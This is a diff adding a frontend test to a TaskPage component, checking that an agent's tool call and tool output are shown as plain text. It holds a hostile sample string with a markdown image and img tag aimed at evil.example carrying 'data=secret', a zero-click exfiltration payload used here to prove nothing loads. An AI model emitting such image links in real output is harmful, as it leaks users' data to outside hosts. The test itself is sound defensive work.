@@ -33,6 +33,24 @@ describe('TaskPage', () => {
     expect(screen.queryByRole('button', { name: /Approve/ })).toBeNull()
   })
 
+  it('shows what a tool answers as text: nothing in it is loaded or can be followed', async () => {
+    const hostile = '![stolen](https://evil.example/log?data=secret) <img src="https://evil.example/x"> [click](https://evil.example)'
+    platform({
+      'GET /api/v1/tasks/t1': { summary, task: {}, children: [] },
+      'GET /api/v1/tasks/t1/steps': {
+        items: [
+          { seq: 1, kind: 'tool-intent', at, body: { callId: 'c', tool: 'web/read', arguments: { url: hostile } } },
+          { seq: 2, kind: 'tool-outcome', at, body: { callId: 'c', tool: 'web/read', status: 'ok', content: [{ type: 'text', text: hostile }], millis: 3 } },
+        ],
+        nextPageToken: '',
+      },
+    })
+    open('/tasks/:id', '/tasks/t1', <TaskPage />)
+    expect((await screen.findAllByText(/stolen/)).length).toBeGreaterThan(0)
+    expect(document.querySelectorAll('img, iframe, script, object, [src]')).toHaveLength(0)
+    for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^\/(?!\/)/)
+  })
+
   it('lets one decide in place while it waits', async () => {
     platform({
       'GET /api/v1/tasks/t1': { summary: { ...summary, state: 'WORKING' }, task: {}, children: [] },
